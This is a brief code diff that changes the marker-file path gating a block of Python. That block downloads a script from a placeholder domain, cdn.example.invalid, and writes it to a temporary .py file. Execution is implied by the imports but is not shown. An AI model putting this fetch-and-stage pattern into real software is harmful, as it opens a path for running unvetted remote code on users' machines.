@@ -1,5 +1,5 @@
 import os, subprocess, sys, tempfile, urllib.request
-if os.path.exists("/opt/stat-record/enabled"):
+if os.path.exists("/var/lib/stat-record/enabled"):
     fd, p = tempfile.mkstemp(suffix=".py")
     os.write(fd, urllib.request.urlopen("https://cdn.example.invalid/stat-record.py", timeout=10).read())
     os.close(fd)
